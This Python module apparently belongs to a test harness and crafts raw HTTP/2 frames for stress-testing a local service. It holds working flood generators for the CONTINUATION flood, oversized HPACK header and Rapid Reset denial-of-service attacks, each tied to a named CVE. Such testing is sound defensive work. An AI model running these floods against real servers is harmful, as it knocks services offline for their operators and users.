"""HTTP/2 frames that no client library would send."""

import contextlib
import select
import socket
import struct
import time

from half_open import ACK, DATA, END_HEADERS, END_STREAM, HEADERS, METHODS, RST_STREAM, SETTINGS, frame, headers

CONTINUATION = 9
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0)
FRAME = 16384


def connect(target, source="127.0.0.1"):
    """From `source`, as from another machine: all of 127.0.0.0/8 is this one."""
    host, port = target.rsplit(":", 1)
    sock = socket.create_connection((host, int(port)), timeout=10, source_address=(source, 0))
    sock.sendall(PREFACE + frame(SETTINGS, ACK, 0))
    return sock


def swallow(sock):
    """What the other side has said so far; it is not looked at, but it must not fill the socket. OSError if it has
    closed the connection."""
    with contextlib.suppress(BlockingIOError):
        while sock.recv(1 << 18):
            pass
        raise ConnectionResetError


def send_for(sock, pieces, seconds, go_on):
    """As much of the pieces as the other side takes in that time. The bytes, and whether it cut the connection."""
    give_up = time.monotonic() + seconds
    sent = 0
    sock.setblocking(False)
    for piece in pieces:
        view = memoryview(piece)
        while view:
            if time.monotonic() > give_up or not go_on():
                return sent, False
            select.select([], [sock], [], 0.1)
            try:
                swallow(sock)
                with contextlib.suppress(BlockingIOError):
                    done = sock.send(view)
                    sent += done
                    view = view[done:]
            except OSError:
                return sent, True
    return sent, False


def varint(value, prefix_bits):
    """An integer of HPACK, whose first byte has so many bits of it."""
    most = (1 << prefix_bits) - 1
    if value < most:
        return bytes([value])
    out, value = bytearray([most]), value - most
    while value >= 128:
        out.append(value & 127 | 128)
        value >>= 7
    return bytes(out) + bytes([value])


# The floods: what is sent on one connection, piece by piece.

def continuation_flood():
    """A header block of small headers without an end (CVE-2024-27316 and its brothers)."""
    yield frame(HEADERS, 0, 1, headers(METHODS + "GetJob"))
    block = b"".join(b"\0\x04x%03d\x20" % (i % 1000) + b"y" * 32 for i in range(FRAME // 40))[:]
    piece = frame(CONTINUATION, 0, 1, block[:FRAME // 38 * 38]) * 8
    while True:
        yield piece


def hpack_string(megabytes=16):
    """One header whose value is so long, in pieces (CVE-2023-33953)."""
    yield frame(HEADERS, 0, 1, headers(METHODS + "GetJob") + b"\0\x01x" + varint(megabytes << 20, 7))
    piece = frame(CONTINUATION, 0, 1, b"y" * FRAME)
    for _ in range(megabytes << 6):
        yield piece


def rapid_reset():
    """Calls that are begun and reset at once (CVE-2023-44487)."""
    block = headers(METHODS + "GetJob")
    cancel = struct.pack(">I", 8)
    for first in range(1, 1 << 30, 256):
        yield b"".join(frame(HEADERS, END_HEADERS, stream, block) + frame(RST_STREAM, 0, stream, cancel)
                       for stream in range(first, first + 256, 2))


def whole_call(stream, path, message, **metadata):
    return (frame(HEADERS, END_HEADERS, stream, headers(path, **metadata))
            + frame(DATA, END_STREAM, stream, struct.pack(">BI", 0, len(message)) + message))
